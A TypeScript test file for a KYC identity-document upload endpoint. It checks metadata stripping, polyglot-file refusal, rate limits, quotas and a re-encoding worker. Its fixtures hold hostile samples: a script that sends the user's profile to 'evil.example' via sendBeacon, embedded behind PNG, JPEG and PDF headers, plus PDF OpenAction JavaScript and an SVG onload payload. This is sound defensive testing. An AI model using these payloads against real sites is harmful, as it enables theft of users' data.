import { spawnSync } from 'node:child_process';
import { readdirSync, readFileSync } from 'node:fs';
import { join } from 'node:path';
import { pathToFileURL } from 'node:url';
import jpeg from 'jpeg-js';
import { PNG } from 'pngjs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ApiError } from '../errors.ts';
import { createTestSandbox, type TestSandbox } from '../testing.ts';
import { exifOrientationSegment, jpegFile, jpegSegment, pdfFile, pngChunk, pngFile, simplePdf, withJpegSegment, withPngChunk } from './kyc-fixtures.ts';
import { kycBusy, maxQueuedImages, reencodeImage } from './kyc-images.ts';
import { kycLimits, kycUploadRateLimited } from './kyc.ts';

// §5 Bounds through the running sandbox: what a KYC upload may hold, and how many a player may send.
let sandbox: TestSandbox;
beforeAll(async () => {
  // The tests move the clock by hours (the rate window): access tokens outlive that here.
  sandbox = await createTestSandbox({ accessTokenTtlSeconds: 30 * 86400 });
});
afterAll(() => sandbox.dispose());

let registered = 0;
async function freshPlayer(): Promise<{ access: string; id: number }> {
  const username = `kyc-player-${++registered}`;
  await sandbox.register({ body: { username, email: `${username}@example.test`, password: 'Abc#123x', terms_accepted: true } });
  const { access, user } = await sandbox.login(username, 'Abc#123x');
  return { access, id: user.id as number };
}

async function upload(token: string | null, bytes: Uint8Array, name: string, type = 'application/octet-stream') {
  const form = new FormData();
  form.append('document', new Blob([bytes as BlobPart], { type }), name);
  form.append('document_type', 'passport');
  const response = await sandbox.app.request('/api/users/documents/upload/', { method: 'POST', body: form, headers: token ? { Authorization: `Bearer ${token}` } : {} });
  return { status: response.status, headers: response.headers, json: (await response.json()) as { code?: string; errors?: { field: string; code: string }[]; id?: number } };
}

const storedFiles = (userId: number) => {
  try {
    return readdirSync(join(sandbox.dataDir, 'kyc', String(userId))).map((name) => readFileSync(join(sandbox.dataDir, 'kyc', String(userId), name)));
  } catch {
    return [];
  }
};
const html = '<html><body><script>fetch("/api/user/profile").then(r=>r.text()).then(t=>navigator.sendBeacon("https://evil.example",t))</script></body></html>';

describe('what an upload may hold', () => {
  it('needs a signed-in player', async () => {
    expect((await upload(null, pngFile(), 'passport.png')).status).toBe(401);
  });

  it('stores an image decoded and encoded again: the pixels, without text chunks, comments or EXIF', async () => {
    const { access, id } = await freshPlayer();
    const png = withPngChunk(pngFile(6, 4), pngChunk('tEXt', 'Author\0Jane Roe, 12 rue de la Liberté'));
    expect((await upload(access, png, 'passport.png', 'image/png')).status).toBe(201);
    const photo = withJpegSegment(withJpegSegment(jpegFile(16, 8), jpegSegment(0xfe, 'GPS 36.8065 10.1815')), exifOrientationSegment(6));
    expect((await upload(access, photo, 'selfie.jpg', 'image/jpeg')).status).toBe(201);
    const [first, second] = storedFiles(id).sort((a, b) => a[0] - b[0]);
    // 0x89 (PNG) sorts before 0xFF (JPEG).
    expect(first.includes('Jane Roe')).toBe(false);
    expect(PNG.sync.read(first).data).toEqual(PNG.sync.read(pngFile(6, 4)).data);
    expect(second.includes('GPS')).toBe(false);
    expect(second.includes('Exif')).toBe(false);
    // Turned upright by its EXIF orientation before the EXIF was dropped.
    const decoded = jpeg.decode(second);
    expect([decoded.width, decoded.height]).toEqual([8, 16]);
  });

  it('refuses files that only start like a PNG, a JPEG or a PDF, and stores nothing of them', async () => {
    const { access, id } = await freshPlayer();
    const hostile = [
      Buffer.concat([pngFile().subarray(0, 8), Buffer.from(html)]),
      Buffer.concat([pngFile(), Buffer.from(html)]),
      Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from(html)]),
      Buffer.from(`%PDF-1.7\n${html}`),
      simplePdf(['<< /S /JavaScript /JS (app.alert(1)) >>'], ' /OpenAction 6 0 R'),
      Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>'),
    ];
    for (const bytes of hostile) {
      const refused = await upload(access, bytes, 'passport.png', 'image/png');
      expect(refused.status).toBe(400);
      expect(refused.json.errors).toEqual([expect.objectContaining({ field: 'document', code: 'invalid-type' })]);
    }
    expect(storedFiles(id)).toHaveLength(0);
    expect((await sandbox.call('GET', '/api/users/documents/', { token: access })).json.documents).toHaveLength(0);
  });

  it('stores a well-formed PDF as it was sent', async () => {
    const { access, id } = await freshPlayer();
    const pdf = simplePdf();
    expect((await upload(access, pdf, 'bill.pdf', 'application/pdf')).status).toBe(201);
    expect(storedFiles(id)).toEqual([pdf]);
  });
});

describe('how many a player may send', () => {
  it(`allows ${kycLimits.uploadsPerHour} attempts an hour, refused ones included, then 429 with Retry-After; another player is not held back`, async () => {
    const { access } = await freshPlayer();
    await upload(access, Buffer.from(html), 'bad.png');
    for (let index = 1; index < kycLimits.uploadsPerHour; index++) expect((await upload(access, pngFile(), `p${index}.png`)).status).toBe(201);
    sandbox.clock.advance(60_000);
    const refused = await upload(access, pngFile(), 'one-more.png');
    expect(refused.status).toBe(429);
    expect(refused.json.code).toBe(kycUploadRateLimited);
    expect(refused.json.errors).toEqual([expect.objectContaining({ field: 'document', code: 'rate-limited' })]);
    // Free again when the first attempt is an hour old: 59 minutes from now.
    expect(Number(refused.headers.get('Retry-After'))).toBeGreaterThan(58 * 60);
    expect(Number(refused.headers.get('Retry-After'))).toBeLessThanOrEqual(59 * 60);
    // A refusal for the rate does not count, so waiting as told is enough.
    sandbox.clock.advance(59 * 60_000);
    expect((await upload(access, pngFile(), 'later.png')).status).toBe(201);
    const other = await freshPlayer();
    expect((await upload(other.access, pngFile(), 'other.png')).status).toBe(201);
  });

  it(`keeps at most ${kycLimits.maxDocuments} documents awaiting review or approved; a rejected one frees its place`, async () => {
    const { access } = await freshPlayer();
    let last = 0;
    for (let index = 0; index < kycLimits.maxDocuments; index++) {
      if (index > 0 && index % kycLimits.uploadsPerHour === 0) sandbox.clock.advance(3600_000);
      const sent = await upload(access, pngFile(), `p${index}.png`);
      expect(sent.status).toBe(201);
      last = sent.json.id!;
    }
    sandbox.clock.advance(3600_000);
    const refused = await upload(access, pngFile(), 'one-more.png');
    expect(refused.status).toBe(400);
    expect(refused.json.errors).toEqual([expect.objectContaining({ field: 'document', code: 'quota-count' })]);
    await sandbox.call('POST', `/sandbox/kyc/${last}/review`, { body: { status: 'rejected', reason: 'blurred' } });
    expect((await upload(access, pngFile(), 'better.png')).status).toBe(201);
  });

  it(`keeps at most ${kycLimits.maxTotalBytes / 1024 / 1024} MB per player`, async () => {
    const { access } = await freshPlayer();
    // PDFs are stored as sent: 4.5 MB each (a scan's image stream, uncompressed here).
    const big = simplePdf([{ dictionary: '/Type /XObject /Subtype /Image', data: Buffer.alloc(4.5 * 1024 * 1024, 0x20) }]);
    const fit = Math.floor(kycLimits.maxTotalBytes / big.length);
    for (let index = 0; index < fit; index++) expect((await upload(access, big, `scan${index}.pdf`)).status).toBe(201);
    const refused = await upload(access, big, 'one-more.pdf');
    expect(refused.status).toBe(400);
    expect(refused.json.errors).toEqual([expect.objectContaining({ field: 'document', code: 'quota-size' })]);
    expect((await upload(access, pngFile(), 'small.png')).status).toBe(201);
  });

  it('takes one upload at a time per player, so two sent together cannot both pass the quota', async () => {
    const { access } = await freshPlayer();
    for (let index = 0; index < kycLimits.maxDocuments - 1; index++) {
      if (index > 0 && index % kycLimits.uploadsPerHour === 0) sandbox.clock.advance(3600_000);
      expect((await upload(access, pngFile(), `p${index}.png`)).status).toBe(201);
    }
    sandbox.clock.advance(3600_000);
    const both = await Promise.all([upload(access, pngFile(), 'a.png'), upload(access, pngFile(), 'b.png')]);
    expect(both.map((answer) => answer.status).sort()).toEqual([201, 400]);
  });
});

describe('the re-encoding worker', () => {
  it(`queues at most ${maxQueuedImages} images and refuses more with 429 ${kycBusy}`, async () => {
    const image = jpegFile(256, 256);
    const queued = Array.from({ length: maxQueuedImages }, () => reencodeImage('jpeg', image));
    let refusal: unknown;
    try {
      await reencodeImage('jpeg', image);
    } catch (error) {
      refusal = error;
    }
    expect(refusal).toBeInstanceOf(ApiError);
    expect((refusal as ApiError).status).toBe(429);
    expect((refusal as ApiError).body.code).toBe(kycBusy);
    expect((await Promise.all(queued)).every((answer) => answer.ok)).toBe(true);
    // Free again once the queue has drained.
    expect((await reencodeImage('jpeg', image)).ok).toBe(true);
  });

  it('keeps a process alive only while it has an image to do', () => {
    // A script that re-encodes two images and ends: it must exit, not hang on the idle worker.
    const script = `
      const { reencodeImage } = await import(${JSON.stringify(pathToFileURL(join(import.meta.dirname, 'kyc-images.ts')).href)});
      const { pngFile } = await import(${JSON.stringify(pathToFileURL(join(import.meta.dirname, 'kyc-fixtures.ts')).href)});
      const answers = [await reencodeImage('png', pngFile()), await reencodeImage('png', pngFile())];
      console.log(answers.every((answer) => answer.ok) ? 'both re-encoded' : JSON.stringify(answers));`;
    const run = spawnSync(process.execPath, ['--input-type=module', '-e', script], { encoding: 'utf8', timeout: 30_000 });
    expect(run.stdout.trim()).toBe('both re-encoded');
    expect(run.status).toBe(0);
  });

  it('answers a refusal, not a crash, for an image the codec cannot read', async () => {
    const answer = await reencodeImage('png', pdfFile(['<< >>']));
    expect(answer.ok).toBe(false);
  });
});
